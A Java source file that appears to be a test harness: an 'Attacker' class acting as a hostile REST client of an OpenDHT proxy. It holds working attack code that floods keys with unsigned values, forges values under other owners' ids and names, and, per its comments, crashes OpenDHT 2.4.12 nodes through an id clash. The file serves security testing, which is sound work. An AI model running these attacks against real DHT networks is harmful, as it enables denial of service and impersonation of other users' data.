package dev.starling.dht.opendht;

import dev.starling.dht.Dht;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionException;
import java.util.concurrent.Semaphore;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;

/// Somebody with a plain REST client at a proxy, who puts what he likes under anybody's key.
public final class Attacker implements AutoCloseable {
    private static final long FAR = 4_102_444_800L;
    private static final int AT_ONCE = 32;
    private static final Duration PATIENCE = Duration.ofSeconds(30);

    private final URI proxy;
    private final SlotKey own;
    private final HttpClient http = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5))
            .build();

    public Attacker(URI proxy) throws IOException {
        this.proxy = proxy;
        own = SlotKeys.next();
    }

    /// What a whole reading of keys cost.
    public record Reading(int values, Duration time) {}

    /// Unsigned, with an id of its own, and well-formed outside.
    public void put(String key, byte[] value) throws InterruptedException {
        flood(key, List.of(value));
    }

    /// Many at once; returns how many were taken.
    public int flood(String key, List<byte[]> values) throws InterruptedException {
        var bodies = new ArrayList<String>();
        for (byte[] value : values) bodies.add(unsigned(id(), new Envelope(id(), FAR, value).bytes()));
        return post(key, bodies);
    }

    /// Any bytes, with nothing of ours around them.
    public int bare(String key, byte[] data) throws InterruptedException {
        return post(key, List.of(unsigned(id(), data)));
    }

    private static long id() {
        return ThreadLocalRandom.current().nextLong();
    }

    private static String unsigned(long id, byte[] data) {
        return "{\"id\":\"" + Long.toUnsignedString(id) + "\",\"data\":\""
                + Base64.getEncoder().encodeToString(data) + "\"}";
    }

    private int post(String key, List<String> bodies) throws InterruptedException {
        var free = new Semaphore(AT_ONCE);
        var taken = new AtomicInteger();
        for (String body : bodies) {
            free.acquire();
            var request = HttpRequest.newBuilder(proxy.resolve("/key/" + key))
                    .timeout(PATIENCE)
                    .POST(HttpRequest.BodyPublishers.ofString(body))
                    .build();
            var _ = http.sendAsync(request, HttpResponse.BodyHandlers.discarding())
                    .whenComplete((answer, _) -> {
                        if (answer != null && answer.statusCode() == 200) taken.incrementAndGet();
                        free.release();
                    });
        }
        free.acquire(AT_ONCE);
        return taken.get();
    }

    /// Puts `value` with the id on the wire of each signed value under a key: signed by himself with a higher number,
    /// and with the victim's name over a signature of his own. Returns how many ids there were.
    public int impersonate(String key, byte[] value) throws IOException, InterruptedException {
        var ids = new ArrayList<Signed>();
        for (String line : lines(key))
            Signed.parse(line).filter(s -> s.owner().length > 0).ifPresent(ids::add);
        for (Signed each : ids) impersonate(key, each.id(), each.owner(), value);
        return ids.size();
    }

    /// The same for a value that is not there yet, of the owner whose key file this is: he could compute the id from
    /// another value of that owner.
    ///
    /// @param unsigned with nobody's name, which no later value of that id replaces
    public void impersonateAhead(
            String key, Dht.Value value, Path victim, Clock clock, byte[] instead, boolean unsigned) throws Exception {
        var signed = new Slots(SlotKey.loadOrMake(victim), clock)
                .prepare(key, value, FAR)
                .value();
        if (unsigned) {
            int _ = post(key, List.of(unsigned(signed.id(), new Envelope(signed.id(), FAR, instead).bytes())));
        } else impersonate(key, signed.id(), signed.owner(), instead);
    }

    private void impersonate(String key, long id, byte[] victim, byte[] value) throws InterruptedException {
        byte[] data = new Envelope(id, FAR, value).bytes();
        var mine = own.sign(id, Signed.MAX_SEQ, data);
        var forged = new Signed(id, Signed.MAX_SEQ, victim, data, mine.signature(), false);
        int _ = post(key, List.of(mine.json(), forged.json()));
    }

    /// An unsigned value with the id of a signed one: OpenDHT 2.4.12 compares the owners without looking whether there
    /// are two, and each node that holds the signed one ends.
    public void kill(String key) throws IOException, InterruptedException {
        for (String line : lines(key)) {
            var signed = Signed.parse(line).filter(s -> s.owner().length > 0);
            if (signed.isPresent()) {
                int _ = post(key, List.of(unsigned(signed.get().id(), new byte[100])));
            }
        }
    }

    private List<String> lines(String key) throws IOException, InterruptedException {
        var request = HttpRequest.newBuilder(proxy.resolve("/key/" + key))
                .timeout(PATIENCE)
                .build();
        try (var lines = http.send(request, HttpResponse.BodyHandlers.ofLines()).body()) {
            return lines.filter(line -> !line.isBlank()).toList();
        }
    }

    /// Reads all of these keys at once and to their end through each of the proxies, and does nothing with what comes:
    /// what
    /// nobody who reads them can be faster than.
    public Reading readWhole(List<URI> through, List<String> keys) {
        long start = System.nanoTime();
        var all = keys.stream()
                .flatMap(key -> through.stream().map(each -> each.resolve("/key/" + key)))
                .map(url -> http.sendAsync(
                                HttpRequest.newBuilder(url).timeout(PATIENCE).build(),
                                HttpResponse.BodyHandlers.ofLines())
                        .thenApplyAsync(answer -> {
                            try (var lines = answer.body()) {
                                return (int)
                                        lines.filter(line -> !line.isBlank()).count();
                            }
                        }))
                .toList();
        int values = 0;
        for (CompletableFuture<Integer> each : all) {
            try {
                values += each.join();
            } catch (CompletionException e) {
                throw new IllegalStateException("the network does not answer", e);
            }
        }
        return new Reading(values, Duration.ofNanos(System.nanoTime() - start));
    }

    @Override
    public void close() {
        http.shutdownNow();
    }
}
